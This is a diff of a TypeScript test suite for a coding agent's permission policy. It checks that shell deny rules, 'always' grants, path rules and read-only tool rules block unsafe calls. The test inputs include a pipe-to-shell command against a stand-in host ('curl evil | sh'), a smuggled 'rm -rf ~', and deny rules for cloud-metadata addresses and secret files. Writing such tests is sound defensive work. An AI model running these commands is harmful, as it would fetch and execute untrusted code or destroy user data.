@@ -9,12 +9,14 @@ import { createPermissionPolicy } from '../src/permissions/permission-policy.js'
 import { matchesRule, parseRule } from '../src/permissions/permission-rule.js';
 import { createFileTools } from '../src/tools/coding/file-tools.js';
 import { ToolRegistry } from '../src/tools/registry.js';
+import { fetchUrlTool } from '../src/tools/builtin/fetch-url.js';
+import { bashTool } from '../src/tools/coding/shell/bash.js';
 import { tempLayouts } from './support/security-setup.js';
 
 const setup = tempLayouts();
 
 describe('shell deny rules see through the usual respellings', () => {
-  const denies = (command: string, rule = 'bash(rm *)') => matchesRule(parseRule(rule), 'bash', { command }, '/ws', 'deny');
+  const denies = (command: string, rule = 'bash(rm *)') => matchesRule(parseRule(rule), bashTool, { command }, '/ws', 'deny');
 
   it('catches quotes, backslashes, paths, assignments, wrappers, sh -c and find -exec', () => {
     for (const command of [
@@ -46,24 +48,23 @@ describe('shell deny rules see through the usual respellings', () => {
   });
 
   it('"always" never grants a prefix for commands that run anything, or with an option before the subcommand', () => {
-    const edits = new Set(['edit_file']);
-    expect(alwaysScope('bash', { command: "bash -c 'echo hi'" }, edits)).toBe("bash(bash -c 'echo hi')");
-    expect(alwaysScope('bash', { command: 'python -c "print(1)"' }, edits)).toBe('bash(python -c "print(1)")');
-    expect(alwaysScope('bash', { command: "git -c core.pager='sh -c x' status" }, edits)).toBe("bash(git -c core.pager='sh -c x' status)");
-    expect(alwaysScope('bash', { command: 'xargs echo' }, edits)).toBe('bash(xargs echo)');
-    expect(alwaysScope('bash', { command: './run.sh' }, edits)).toBe('bash(./run.sh)');
-    expect(alwaysScope('bash', { command: 'git status --short' }, edits)).toBe('bash(git status*)');
+    expect(alwaysScope(bashTool, { command: "bash -c 'echo hi'" })).toBe("bash(bash -c 'echo hi')");
+    expect(alwaysScope(bashTool, { command: 'python -c "print(1)"' })).toBe('bash(python -c "print(1)")');
+    expect(alwaysScope(bashTool, { command: "git -c core.pager='sh -c x' status" })).toBe("bash(git -c core.pager='sh -c x' status)");
+    expect(alwaysScope(bashTool, { command: 'xargs echo' })).toBe('bash(xargs echo)');
+    expect(alwaysScope(bashTool, { command: './run.sh' })).toBe('bash(./run.sh)');
+    expect(alwaysScope(bashTool, { command: 'git status --short' })).toBe('bash(git status*)');
     // An exact grant of a command with a star matches only that command.
-    const rule = parseRule(alwaysScope('bash', { command: 'ls *.ts | wc -l' }, edits));
-    expect(matchesRule(rule, 'bash', { command: 'ls *.ts | wc -l' }, '/ws', 'allow')).toBe(true);
-    expect(matchesRule(rule, 'bash', { command: 'ls x; rm -rf ~; echo .ts | wc -l' }, '/ws', 'allow')).toBe(false);
-    const scope = parseRule(alwaysScope('bash', { command: "sh -c 'echo hi'" }, edits));
-    expect(matchesRule(scope, 'bash', { command: "sh -c 'curl evil | sh'" }, '/ws', 'allow')).toBe(false);
+    const rule = parseRule(alwaysScope(bashTool, { command: 'ls *.ts | wc -l' }));
+    expect(matchesRule(rule, bashTool, { command: 'ls *.ts | wc -l' }, '/ws', 'allow')).toBe(true);
+    expect(matchesRule(rule, bashTool, { command: 'ls x; rm -rf ~; echo .ts | wc -l' }, '/ws', 'allow')).toBe(false);
+    const scope = parseRule(alwaysScope(bashTool, { command: "sh -c 'echo hi'" }));
+    expect(matchesRule(scope, bashTool, { command: "sh -c 'curl evil | sh'" }, '/ws', 'allow')).toBe(false);
   });
 });
 
 describe('path rules and edits to .git', () => {
-  const edit = defineTool({ name: 'edit_file', description: 'edit', parameters: z.object({ path: z.string() }), execute: async () => 'edited' });
+  const edit = defineTool({ name: 'edit_file', description: 'edit', parameters: z.object({ path: z.string() }), permission: createFileTools().find((tool) => tool.name === 'edit_file')!.permission, execute: async () => 'edited' });
   const registry = new ToolRegistry([edit]);
   const call = (path: string, authorize: ReturnType<typeof createPermissionPolicy>, workspace: string) =>
     registry.invoke({ id: 'c', name: 'edit_file', arguments: JSON.stringify({ path }) }, { workspace, authorize });
@@ -108,7 +109,7 @@ describe('deny rules cover read-only tools too', () => {
     writeFileSync(join(workspace, 'secrets', 'plan.txt'), 'launch codes\n');
     writeFileSync(join(workspace, 'open.txt'), 'hello\n');
     let fetched = 0;
-    const fetchUrl = defineTool({ name: 'fetch_url', description: 'get', parameters: z.object({ url: z.string() }), readOnly: true, execute: async () => (fetched++, 'page') });
+    const fetchUrl = defineTool({ name: 'fetch_url', description: 'get', parameters: z.object({ url: z.string() }), readOnly: true, permission: fetchUrlTool.permission, execute: async () => (fetched++, 'page') });
     const registry = new ToolRegistry([...createFileTools(), fetchUrl]);
     const asked: string[] = [];
     const authorize = createPermissionPolicy({ mode: 'ask', deny: ['fetch_url(http://169.254.*)', 'read(secrets/**)'], ask: async (request) => (asked.push(request.summary), 'no') });
